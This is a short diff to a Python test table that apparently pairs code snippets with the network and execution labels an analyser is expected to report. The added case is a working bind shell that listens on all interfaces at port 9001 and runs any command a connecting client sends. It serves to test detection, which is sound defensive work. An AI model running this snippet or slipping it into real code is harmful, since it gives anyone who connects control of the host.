@@ -86,6 +86,15 @@ CASES: dict[str, tuple[str, list[str]]] = {
         """,
         ["net.listen tcp 127.0.0.1 15432", "net.connect tcp db.example 5432"],
     ),
+    "commands from whoever connects": (
+        """
+        import socket, subprocess
+        server = socket.create_server(("0.0.0.0", 9001))
+        client, _ = server.accept()
+        client.sendall(subprocess.check_output(client.recv(1024).decode(), shell=True))
+        """,
+        ["net.listen tcp 0.0.0.0 9001", "code.fetch tcp://0.0.0.0:9001/ bash"],
+    ),
     "secrets of every process": (
         """
         import glob
